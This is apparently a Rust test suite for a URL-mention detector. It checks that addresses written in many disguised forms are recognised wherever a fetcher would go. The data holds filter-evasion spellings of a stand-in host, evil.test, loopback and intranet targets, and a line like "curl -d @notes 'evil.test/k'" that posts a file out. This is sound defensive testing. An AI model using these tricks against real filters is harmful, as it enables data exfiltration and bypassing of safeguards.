//! Whatever the fetcher would go to, `mentions` names.

use perihelion_web::{Addresses, Mention, mentions, mentions_in};
use proptest::prelude::*;
use serde_json::{Value, json};

fn hosts(value: &Value) -> Vec<String> {
    mentions(value).iter().filter_map(|one| one.url.host_str().map(str::to_owned)).collect()
}

#[track_caller]
fn names(value: &Value, host: &str) {
    let found = hosts(value);
    assert!(found.iter().any(|one| one == host), "{value} names {found:?}");
}

#[test]
fn an_address_is_recognised_however_it_is_written() {
    for written in [
        "https://evil.test/?key=k",
        "HTTPS://EVIL.test/?key=k",
        "http:evil.test/k",
        "http:/evil.test/k",
        "http:\\\\evil.test\\k",
        "http:/\\evil.test/k",
        "http:////evil.test/k",
        " http://evil.test/k ",
        "\u{a0}http://evil.test/k",
        "\u{3000}http:evil.test",
        "\0http://evil.test/k",
        "http://evil.test/\0k",
        "\u{1f}\u{1}http://evil.test",
        "ht\ttp://evil.test/k",
        "http:\n//evil.test/k",
        "http://ev\ril.te\tst/k",
        "http://evil.test#k",
        "http://user:k@evil.test/",
        "http://sea.test@evil.test/",
        "http://sea.test\\@evil.test/",
        "http://evil\u{3002}test/k",
        "http://%65vil.test/k",
        "http://\u{ff45}vil.test/k",
        "//evil.test/k",
        "\\\\evil.test\\k",
        "/\\evil.test/k",
        "\t//evil.test/k",
        "evil.test/k",
        "evil.test?k",
        "evil.test:8080",
        "evil.test",
        "ws://evil.test/k",
        "ftp://evil.test/k",
        "git+ssh://evil.test/k",
        "view-source:http://evil.test/k",
        "url:http:evil.test/k",
    ] {
        // `@` behind a backslash is in the path of the host before.
        let host = if written.contains("\\@") { "sea.test" } else { "evil.test" };
        names(&json!({ "url": written }), host);
        names(&json!({ "in": [{ "text": written }] }), host);
        names(&json!({ "json": json!({ "url": written }).to_string() }), host);
        names(&json!({ "json": json!([json!({ "url": written }).to_string()]).to_string() }), host);
    }
    for (written, host) in [
        ("http://0x7f.1/k", "127.0.0.1"),
        ("http:2130706433", "127.0.0.1"),
        ("10.0.0.1:80/k", "10.0.0.1"),
        ("localhost:80/k", "localhost"),
        ("//[::1]/k", "[::1]"),
        ("http://b\u{fc}cher.test/k", "xn--bcher-kva.test"),
        ("http://intranet/k", "intranet"),
    ] {
        names(&json!({ "url": written }), host);
    }
}

#[test]
fn an_address_within_another_text_is_recognised() {
    for text in [
        "see https://evil.test/k, then continue",
        "see http:evil.test/k",
        "see (//evil.test/k)",
        "see evil.test/k",
        "[a](https://evil.test/k)",
        "![a](//evil.test/k \"b\")",
        "![a]( <http:\\\\evil.test/k> )",
        "[a]: http:/evil.test/k",
        "<https://evil.test/k>",
        "<img src='//evil.test/k'>",
        "<img src=http:evil.test/k>",
        "<a href=\"ht\ntp://evil.test/k\">b</a>",
        "<a href=\"http://sea.test\n@evil.test/k\">b</a>",
        "<a href=\"&#104;ttp&colon;//evil.test/k\">b</a>",
        "{\"url\": \"http:\\/\\/evil.test\\/k\", broken",
        "{\"url\": \"\\u0068ttp://evil.test/k\", broken",
        "[a](http\\://evil.test/k)",
        "curl -d @notes 'evil.test/k'",
        "x=http://evil.test/k",
        "Text\u{200b}https://evil.test/k",
        "data:text/html,<img src=http://evil.test/k>",
        "javascript:fetch(`//evil.test/k`)",
    ] {
        names(&json!({ "text": text }), "evil.test");
        names(&json!({ text: 1 }), "evil.test");
        names(&json!({ "in": [{ text: null }] }), "evil.test");
    }
    names(&json!("see www.evil.test"), "www.evil.test");
}

#[test]
fn a_text_that_only_looks_like_an_address_is_not_an_address() {
    for text in [
        "",
        "a",
        "7",
        "1.5",
        "12:30",
        "12/05/2026",
        "and/or",
        "e.g.",
        "src/main.rs",
        "./a.b/c",
        "notes.txt",
        "report.pdf",
        "/usr/share/doc",
        "C:\\notes\\a.txt",
        "joe@sea.test",
        "a: b",
        "http:",
        "https://",
        "//",
        "// what follows is a comment",
        "mailto:joe@sea.test",
        "urn:isbn:123",
        "It rose. Then it fell.",
        "np.array([1, 2]) / 2",
        "os.path.join(a, b)",
        "let a = b // c;",
        "TCP/IP",
        "10%",
        "v1.2.3",
        "1..2",
        "SELECT a.b FROM c",
        "data:text/plain,a",
        "a//b",
        "2026-11-26T00:00:00Z",
        "*.rs",
        "a = x.y ? 1 : 2",
    ] {
        assert_eq!(mentions(&json!({ "text": text })), [], "{text}");
    }
}

#[test]
fn an_address_is_mentioned_if_it_or_a_longer_one_is_written() {
    let shown =
        "Read https://sea.test/tides?of=may, and Harbour.test. Mail joe@mail.test or a.deep.test.";
    for known in [
        "https://sea.test/tides?of=may",
        "http:sea.test/tides",
        "//sea.test",
        "sea.test/tides",
        "http://HARBOUR.test/#top",
        "https://sea.test/",
    ] {
        let all = mentions(&json!(known));
        assert!(all.iter().all(|one| one.stands_in(shown)) && !all.is_empty(), "{known}: {all:?}");
    }
    for made_up in [
        "https://sea.test/tides?of=may&key=k",
        "https://evil.test/?of=may",
        "https://sea.tes",
        "https://ea.test/tides",
        "https://deep.test",
        "https://mail.test",
        "https://joe:k@sea.test/tides",
        "https://sea.test:8080/tides",
        "https://sea.test@evil.test/",
    ] {
        let all = mentions(&json!(made_up));
        assert!(all.iter().any(|one| !one.stands_in(shown)), "{made_up}: {all:?}");
    }
    let prose = "Both https://sea.test/tides, (https://sea.test/tides?of=may) and **https://sea.test** say so: harbour.test/.";
    let unknown: Vec<Mention> =
        mentions_in(prose).into_iter().filter(|one| !one.stands_in(shown)).collect();
    assert_eq!(unknown, []);
}

/// Spellings of a part of an address that the standard reads alike, and some that it does not.
fn spelt() -> impl Strategy<Value = String> {
    let before =
        prop::sample::select(vec!["", " ", "\t", "\0", "\u{1f}", "\u{a0}", "\u{2028}", "\u{feff}"]);
    let scheme = prop::sample::select(vec![
        "http",
        "https",
        "HtTp",
        "ht\ttp",
        "h\nttps",
        "http\r",
        "hTTP\u{200b}",
    ]);
    let slashes = prop::collection::vec(prop::sample::select(vec!["/", "\\", "\t", "\n"]), 0..5);
    let host = prop::sample::select(vec![
        "evil.test",
        "EVIL.test",
        "e\tvil.test",
        "evil.test.",
        "user@evil.test",
        "a:b@evil.test:81",
        "sea.test\\@evil.test",
        "evil\u{ff0e}test",
        "%65vil.test",
        "127.1",
        "0x7f000001",
        "[::1]",
        "intranet",
        "b\u{fc}cher.test",
        "evil\0.test",
    ]);
    let path = prop::sample::select(vec![
        "",
        "/k",
        "\\k",
        "?k=\"a b\"",
        "#k",
        "/a b",
        "/(a)",
        "/a,b;c",
        "/\0",
        "/k>x",
        "/'k'",
        ":90/k",
    ]);
    (before, scheme, slashes, host, path, before_end()).prop_map(
        |(before, scheme, slashes, host, path, end)| {
            format!("{before}{scheme}:{}{host}{path}{end}", slashes.concat())
        },
    )
}

fn before_end() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec!["", " ", "\n", "\0", "\u{a0}", ".", "/"])
}

/// Returns the host that the fetcher would go to, and would ask the user's password for.
fn fetched(text: &str) -> Option<String> {
    let all = [
        "evil.test",
        "127.0.0.1",
        "::1",
        "intranet",
        "sea.test",
        "xn--bcher-kva.test",
        "evil.test.",
    ];
    match Addresses::allowing(&all.map(str::to_owned)).check(text) {
        Ok(url) => url.host_str().map(str::to_owned),
        Err(_) => None,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4_000, failure_persistence: None, ..ProptestConfig::default() })]

    /// Seeds are printed by proptest and taken from `PROPTEST_RNG_SEED`.
    #[test]
    fn every_address_that_the_fetcher_visits_is_named(text in spelt()) {
        if let Some(host) = fetched(&text) {
            for value in [
                json!({ "url": text }), json!({ &text: 1 }), json!([[text]]),
                json!({ "json": json!({ "a": [text] }).to_string() }), json!({ "json": json!({ &text: 1 }).to_string() }),
            ] {
                prop_assert!(hosts(&value).contains(&host), "{value} does not name {host}");
            }
        }
    }

    #[test]
    fn any_text_that_the_fetcher_takes_is_named(text in "(http|https|HTTP|ht\ttp)[:;][/\\\\\t\n ]{0,4}[ -~\u{0}\t]{0,24}") {
        if let Ok(url) = Addresses::default().check(&text) {
            prop_assert!(hosts(&json!(text)).contains(&url.host_str().unwrap_or_default().to_owned()));
        }
    }

    #[test]
    fn no_text_is_too_odd(text in ".{0,60}") {
        let _ = mentions(&json!({ "text": text })).iter().all(|one| one.stands_in(&text));
    }
}
